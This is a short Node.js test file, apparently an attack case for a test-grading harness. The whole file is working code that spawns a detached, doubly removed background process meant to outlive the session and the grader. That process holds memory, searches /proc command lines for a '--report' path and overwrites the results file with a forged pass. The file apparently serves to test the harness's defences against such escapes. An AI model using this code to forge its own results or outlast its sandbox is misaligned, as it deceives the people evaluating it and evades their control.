// Leaves a process behind that should outlive the case and the grader: started twice removed
// (sh -c '... &'), in a session of its own, with an empty environment, holding memory, and
// rewriting any results.json whose path it can find on some process's command line.
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const stray = join(tmpdir(), 'theinference-attack-stray.cjs');
writeFileSync(
  stray,
  `const fs = require('node:fs');
const held = Buffer.alloc(64 * 1024 * 1024, 1);
setInterval(() => {
  for (const pid of fs.readdirSync('/proc')) {
    try {
      const args = fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0');
      const at = args.indexOf('--report');
      if (at > 0) fs.writeFileSync(args[at + 1], JSON.stringify({ status: 'pass', exitCode: 0, forged: held.length }));
    } catch {}
  }
}, 100);
`,
);
spawn('sh', ['-c', `env -i "${process.execPath}" "${stray}" theinference-attack-stray >/dev/null 2>&1 &`], { detached: true, stdio: 'ignore' }).unref();
